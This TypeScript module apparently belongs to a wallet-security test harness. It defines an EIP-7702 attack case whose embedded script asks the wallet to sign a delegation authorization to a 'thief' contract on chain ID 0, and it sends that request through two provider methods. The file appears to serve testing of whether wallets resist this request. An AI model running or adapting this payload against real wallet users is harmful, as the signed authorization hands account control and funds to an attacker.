import type { Attack } from '../Attack.ts';

/** EIP-7702: the account becomes somebody's program. */
export const attack: Attack = {
  entry: 'provider.request',
  mechanism: 'wallet_signAuthorization and eth_signAuthorization',
  discovers: true,
  script: `
const wallet = await kit.wallet();
for (const method of ['wallet_signAuthorization', 'eth_signAuthorization']) wallet.request({ method, params: [{ contractAddress: kit.thief, chainId: 0, nonce: kit.hex }] }).catch(() => undefined);
`,
};
